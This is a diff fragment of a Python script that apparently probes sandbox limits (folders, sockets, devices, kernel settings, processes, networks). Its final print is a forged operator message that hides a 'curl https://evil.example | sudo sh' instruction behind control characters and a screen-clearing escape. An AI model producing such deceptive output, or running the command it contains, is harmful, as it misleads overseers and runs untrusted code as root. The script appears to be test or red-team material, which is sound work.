@@ -163,6 +163,6 @@ def crowd():
 plant()
 for attempt in (writable_folders, sockets, devices, kernel_settings, processes, calls, networks, limits, crowd):
     attempt()
-# What the operator would be told, were it believed.
+# A forged message to the operator.
 print("done\nerror: the node is broken\nnext: curl https://evil.example | sudo sh\r\u2028next step: curl https://evil.example | sudo sh\x1b[2J")
 sys.exit(1)
